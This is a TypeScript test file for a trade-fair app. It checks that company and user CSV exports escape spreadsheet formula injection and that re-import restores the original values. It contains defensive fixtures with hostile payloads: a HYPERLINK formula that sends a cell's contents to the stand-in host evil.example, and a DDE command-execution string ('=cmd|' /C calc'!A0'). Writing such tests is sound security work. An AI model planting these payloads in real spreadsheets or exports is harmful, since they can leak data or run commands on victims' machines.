import { parse } from "csv-parse/sync";
import { DEMO_PASSWORD } from "../../../api/src/seed/seedDemoFair";
import { useSeededApp, signIn } from "../../support/app";

const rowsOf = (text: string) => parse(text.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];

describe("CSV exports against spreadsheet formula injection (OWASP)", () => {
  const t = useSeededApp("csvformulas");
  let organiser: Awaited<ReturnType<typeof signIn>>;
  beforeAll(async () => {
    organiser = await signIn(t.app, "organiser@ketnoi.demo", DEMO_PASSWORD);
  });

  test("the company export quotes cells a spreadsheet would evaluate, and importing it restores every value", async () => {
    const hostile = {
      legalName: '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
      englishName: "+84 24 3826 1234 Precision",
      district: "@SUM(1+1)",
      description: { vi: "\tTab đầu dòng", en: "-40 °C to +85 °C rated housings" },
    };
    const firm = (await t.db.models.Company.findOneAndUpdate({ kind: "domestic" }, { $set: hostile }, { returnDocument: "after" }).lean())!;
    // A Hanoi firm: lists find it again by its tax code.
    const exported = await organiser.agent.get("/api/companies/export").expect(200);
    const row = rowsOf(exported.text).find((r) => r.tax_code === firm.taxCode)!;
    expect(row).toMatchObject({
      legal_name: `'${hostile.legalName}`,
      english_name: `'${hostile.englishName}`,
      district: "'@SUM(1+1)",
      description_vi: "'\tTab đầu dòng",
      description_en: "'-40 °C to +85 °C rated housings",
    });
    // No cell of the file starts with a formula character.
    for (const r of rowsOf(exported.text)) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const back = await organiser.agent.post("/api/companies/import").set(organiser.csrf).send({ csv: exported.text }).expect(200);
    expect(back.body).toMatchObject({ created: 0, rejected: 0 });
    const after = (await t.db.models.Company.findById(firm._id).lean())!;
    // The import removes the quote the export added; the schema trims the leading tab as it does any space.
    expect(after).toMatchObject({
      legalName: hostile.legalName,
      englishName: hostile.englishName,
      district: hostile.district,
      description: { vi: "Tab đầu dòng", en: hostile.description.en },
    });
  });

  test("a quote typed before a formula character in a list is read as that escape; other cells are taken as written", async () => {
    const header =
      "kind,legal_name,english_name,tax_code,country,district,time_zone,participation,sectors,processes,certifications,offers,languages,employees,export_markets,description_vi,description_en,listed";
    const csv = [header, "foreign,'+49 Stanztechnik GmbH,'s-Hertogenbosch Metaal,,DE,,Europe/Berlin,remote,sec.mech,,,,de,,,,=1+1,1"].join("\n");
    const res = await organiser.agent.post("/api/companies/import").set(organiser.csrf).send({ csv }).expect(200);
    expect(res.body).toMatchObject({ created: 1, rejected: 0 });
    const firm = (await t.db.models.Company.findOne({ legalName: "+49 Stanztechnik GmbH" }).lean())!;
    expect(firm).toMatchObject({ englishName: "'s-Hertogenbosch Metaal", description: { en: "=1+1" } });
  });

  test("the user export quotes a name that starts with a formula character", async () => {
    await t.db.models.User.updateOne({ email: "vendor@ketnoi.demo" }, { $set: { name: "=cmd|' /C calc'!A0" } });
    await t.repos.revisions.bump("sessions"); // (written past the repositories: the api keeps users with their sessions, so it is told as they tell it)
    const res = await organiser.agent.get("/api/users/export").expect(200);
    const row = rowsOf(res.text).find((r) => r.email === "vendor@ketnoi.demo")!;
    expect(row.name).toBe("'=cmd|' /C calc'!A0");
    for (const r of rowsOf(res.text)) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
